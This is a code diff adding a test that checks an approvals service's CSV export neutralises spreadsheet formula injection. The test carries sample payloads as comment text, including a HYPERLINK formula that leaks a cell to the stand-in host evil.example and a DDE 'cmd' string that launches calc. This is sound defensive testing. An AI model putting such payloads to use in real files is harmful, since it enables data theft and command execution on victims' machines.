@@ -115,6 +115,27 @@ describe('GET /approvals/history.csv (embedded profile)', () => {
     expect((await csv(stranger.accessToken).expect(200)).text.trim()).toBe(HEADER.join(','));
   });
 
+  it('neutralises cells a spreadsheet would run as formulas (OWASP): a quote before = + - @ tab and CR, the JSON untouched', async () => {
+    const tenant = await signUp(t.infrastructure, 'Formula Co');
+    const finance = await accessTokenFor(t.infrastructure, tenant.tenantId, 'FINANCE');
+    const technical = await accessTokenFor(t.infrastructure, tenant.tenantId, 'TECHNICAL');
+    const owner = tenant.accessToken;
+    const attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|'/C calc'!A0", '+x plus', '-x minus', '\tTAB', '\rCR'];
+    const id: string = (await post('/value-definitions', owner, DEFINITION)).body.definitionId;
+    for (const comment of attacks.slice(0, 3)) {
+      await post(`/value-definitions/${id}/submit`, owner);
+      await post(`/approvals/${id}/stages/FINANCE/approve`, finance, { comment });
+      await post(`/approvals/${id}/stages/TECHNICAL/request-changes`, technical, { reason: attacks[attacks.indexOf(comment) + 3] });
+    }
+    const decisions = (await eventually(async () => (await request(t.server).get(`/approvals/${id}/history`).set(bearer(owner)).expect(200)).body, (body) => body.decisions.length === 6)).decisions as Decision[];
+    expect(decisions.map((d) => d.comment).sort()).toEqual([...attacks].sort()); // the JSON keeps what was written
+
+    const rows = parseCsv((await csv(owner).expect(200)).text).slice(1);
+    const comments = rows.map((row) => row[HEADER.indexOf('comment')]);
+    expect(comments.sort()).toEqual(attacks.map((c) => `'${c}`).sort());
+    for (const comment of comments) expect(comment).toMatch(/^'/);
+  });
+
   it('streams 100,000 decisions in order, chunked, holding far less than the export in memory', async () => {
     const tenant = await signUp(t.infrastructure, 'Big Export Co');
     const knex = t.infrastructure.database.knex;
